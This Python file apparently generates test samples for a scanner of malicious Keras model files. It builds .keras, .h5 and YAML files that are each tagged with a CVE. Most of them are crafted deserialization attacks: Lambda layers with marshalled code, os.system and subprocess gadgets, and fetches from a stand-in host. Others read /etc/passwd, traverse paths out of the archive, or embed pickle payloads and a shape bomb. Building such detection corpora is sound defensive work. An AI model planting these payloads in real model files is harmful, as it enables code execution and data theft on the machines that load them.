"""Keras files: attacks by the configuration, the weights and the members of `.keras` and `.h5` files."""

import base64
import json
import marshal
from collections.abc import Iterator
from typing import Any

from corpus import hdf5
from corpus.archives import Entry, object_npy, zipped
from corpus.opcodes import PYTHON, payload
from corpus.sample import Group, Label, Made

METADATA = json.dumps({"keras_version": "3.11.3", "date_saved": "2026-01-01@00:00:00"})
FILE = "/etc/passwd"


def layer(name: str, module: str = "keras.layers", registered: str | None = None, **config: Any) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": name,
        "config": {"name": name.lower(), **config},
        "registered_name": registered,
    }


def sequential(*layers: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "m", "layers": list(layers)},
        "registered_name": None,
        **more,
    }


def function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


DENSE = layer("Dense", units=1, activation="linear")
INPUT = layer("InputLayer", batch_shape=[None, 2], dtype="float32")
HONEST = sequential(INPUT, DENSE)
WEIGHTS = hdf5.new_file(hdf5.attribute("x", "y"))


def keras(config: Any, *others: Entry, weights: bytes = WEIGHTS, metadata: str = METADATA) -> bytes:
    text = config if isinstance(config, str) else json.dumps(config)
    return zipped(
        Entry("metadata.json", metadata.encode()),
        Entry("config.json", text.encode()),
        Entry("model.weights.h5", weights),
        *others,
    )


def code(source: str) -> str:
    """Bytecode as Keras stores a lambda: base64 of `marshal` (made from source here, so that it fits any Python)."""
    return base64.b64encode(marshal.dumps(compile(source, "<lambda>", "eval"))).decode()


def lambda_layer(source: str = PYTHON) -> dict[str, Any]:
    stored = {"class_name": "__lambda__", "config": {"code": code(source), "defaults": None, "closure": None}}
    return layer("Lambda", function=stored, arguments={})


def old_lambda(source: str = PYTHON) -> dict[str, Any]:
    """A Lambda layer as Keras 2 stores it."""
    return {
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": [code(source), None, None],
            "function_type": "lambda",
            "module": "__main__",
            "arguments": {},
        },
    }


def _config(group: Group) -> None:
    def bad(name: str, one: dict[str, Any], note: str = "", advisory: str = "") -> None:
        group.bad(f"{name}.keras", keras(sequential(INPUT, one)), note, advisory)

    bad("lambda", lambda_layer(), "a lambda that runs a command", "CVE-2024-3660")
    bad("lambda-network", lambda_layer("__import__('urllib.request').request.urlopen('http://backstay.invalid/')"))
    call = layer("Lambda", function=function("os", "system"), arguments={})
    call["inbound_nodes"] = [{"args": [], "kwargs": {"command": "true"}}]
    bad("os-system", call, "", "CVE-2025-1550")
    bad(
        "run-module",
        layer(
            "Lambda",
            function={"module": "subprocess", "class_name": "function", "config": "run", "registered_name": "run"},
        ),
        "",
        "CVE-2025-1550",
    )
    bad(
        "get-file",
        layer(
            "Lambda",
            function=function("keras.utils", "get_file"),
            arguments={"origin": "http://backstay.invalid/", "cache_dir": "/tmp"},
        ),
        "",
        "CVE-2025-8747",
    )
    bad(
        "unsafe-setting",
        layer("Lambda", function=function("keras.config", "enable_unsafe_deserialization"), arguments={}),
        "",
        "CVE-2025-9906",
    )
    bad(
        "load-model",
        layer("Lambda", function=function("keras.models", "load_model"), arguments={"safe_mode": False}),
        "",
        "CVE-2025-9906",
    )
    wrapped = layer("TorchModuleWrapper")
    wrapped["config"]["module"] = {"class_name": "__torch__", "config": base64.b64encode(payload(2)).decode()}
    bad("torch-module", wrapped, "", "CVE-2025-49655")
    bad(
        "vocabulary-file",
        layer("StringLookup", vocabulary=FILE),
        "a file of the host becomes the vocabulary",
        "CVE-2025-12058",
    )
    bad("vocabulary-url", layer("TextVectorization", vocabulary="http://backstay.invalid/x"), "", "CVE-2025-12058")
    bad("index-file", layer("IndexLookup", vocabulary="/etc/hostname"))
    bad(
        "saved-model",
        layer("TFSMLayer", filepath="/tmp/backstay-none"),
        "loads another model from a path",
        "CVE-2026-1462",
    )
    bad("module-os", layer("system", module="os"), "a layer of the module os")
    bad("module-builtins", layer("eval", module="builtins", source=PYTHON))
    bad(
        "initializer",
        layer(
            "Dense",
            units=1,
            kernel_initializer={
                "module": "subprocess",
                "class_name": "Popen",
                "config": {"args": ["true"]},
                "registered_name": None,
            },
        ),
    )
    bad("activation", layer("Dense", units=1, activation=function("posix", "system")))
    bad("nested-lambda", layer("TimeDistributed", layer=lambda_layer()))
    bad(
        "nested-model",
        layer("Functional", layers=[sequential(INPUT, lambda_layer())], input_layers=[], output_layers=[]),
    )
    compiled = sequential(
        INPUT,
        DENSE,
        compile_config={"optimizer": "adam", "loss": {"class_name": "__lambda__", "config": {"code": code(PYTHON)}}},
    )
    group.bad("loss-lambda.keras", keras(compiled), "in the configuration of the training")
    twice = json.dumps(sequential(INPUT, lambda_layer()))[:-1] + ', "config": ' + json.dumps(HONEST["config"]) + "}"
    group.bad("duplicate-key.keras", keras(twice), "the second value hides the first from most readers")


def _members(group: Group) -> None:
    group.bad("pickle.keras", keras(HONEST, Entry("assets/state.pkl", payload())))
    group.bad(
        "numpy-weights.keras",
        zipped(
            Entry("metadata.json", METADATA.encode()),
            Entry("config.json", json.dumps(HONEST).encode()),
            Entry("model.weights.npz", zipped(Entry("x.npy", object_npy(payload())))),
        ),
    )
    group.bad("slip.keras", keras(HONEST, Entry("assets/../../../backstay-none", b"x")))
    group.bad(
        "two-configs.keras", keras(HONEST, Entry("config.json", json.dumps(sequential(INPUT, lambda_layer())).encode()))
    )
    group.bad(
        "external-link.keras",
        keras(HONEST, weights=hdf5.new_file(hdf5.external_link("vars", FILE, "/"))),
        "",
        "CVE-2026-1669",
    )
    group.bad(
        "external-data.keras", keras(HONEST, weights=hdf5.new_file(dataset=("0", (4,), FILE, 16))), "", "CVE-2026-1669"
    )
    group.bad(
        "shape-bomb.keras",
        keras(HONEST, weights=hdf5.new_file(dataset=("0", (1 << 40,), None, 16))),
        "a data set that claims four tebibytes",
        "CVE-2026-0897",
    )


def _hdf5(group: Group) -> None:
    def model(*layers: dict[str, Any]) -> str:
        return json.dumps({"class_name": "Sequential", "config": {"name": "m", "layers": list(layers)}})

    dense = {"class_name": "Dense", "config": {"name": "d", "units": 1, "activation": "linear"}}
    versions = {"keras_version": "2.15.0", "backend": "tensorflow"}
    group.bad("lambda.h5", hdf5.old_file({"model_config": model(dense, old_lambda()), **versions}), "", "CVE-2025-9905")
    group.bad(
        "lambda.hdf5", hdf5.new_file(hdf5.attribute("model_config", model(dense, old_lambda()))), "", "CVE-2025-9905"
    )
    training = json.dumps({"loss": {"class_name": "Lambda", "config": old_lambda()["config"]}})
    group.bad("training.h5", hdf5.old_file({"model_config": model(dense), "training_config": training, **versions}))
    popen = {"class_name": "Popen", "module": "subprocess", "config": {"args": ["true"]}, "registered_name": None}
    group.bad("module.h5", hdf5.old_file({"model_config": model(popen), **versions}), "", "CVE-2025-1550")
    group.bad("external-link.h5", hdf5.new_file(hdf5.external_link("model_weights", FILE, "/")), "", "CVE-2026-1669")
    group.bad("external-data.h5", hdf5.new_file(dataset=("kernel", (4,), FILE, 16)), "", "CVE-2026-1669")
    group.bad(
        "disguised.weights",
        hdf5.old_file({"model_config": model(dense, old_lambda()), **versions}),
        "an HDF5 file under another name",
    )
    yaml = "class_name: Lambda\nconfig: !!python/object/apply:os.system ['true']\n"
    group.bad("architecture.yaml", yaml.encode(), "Keras before 2.6 loaded YAML without care", "CVE-2021-37678")


def samples() -> Iterator[Made]:
    group = Group("keras")
    _config(group)
    _members(group)
    _hdf5(group)
    inert = layer(
        "Lambda",
        function={"class_name": "__lambda__", "config": {"code": code("1"), "defaults": None, "closure": None}},
    )
    group.good("inert-lambda.keras", keras(sequential(INPUT, inert)), "a lambda without effect", Label.CODE)
    group.good("dense.keras", keras(HONEST))
    custom = layer("Mine", module="mypackage.layers", registered="mypackage>Mine")
    group.good("custom.keras", keras(sequential(INPUT, custom)), "a layer of somebody's own package", Label.UNKNOWN)
    dense = {"class_name": "Dense", "config": {"name": "d", "units": 1, "activation": "linear"}}
    text = json.dumps({"class_name": "Sequential", "config": {"name": "m", "layers": [dense]}})
    group.good("dense.h5", hdf5.old_file({"model_config": text, "keras_version": "2.15.0", "backend": "tensorflow"}))
    yield from group.made
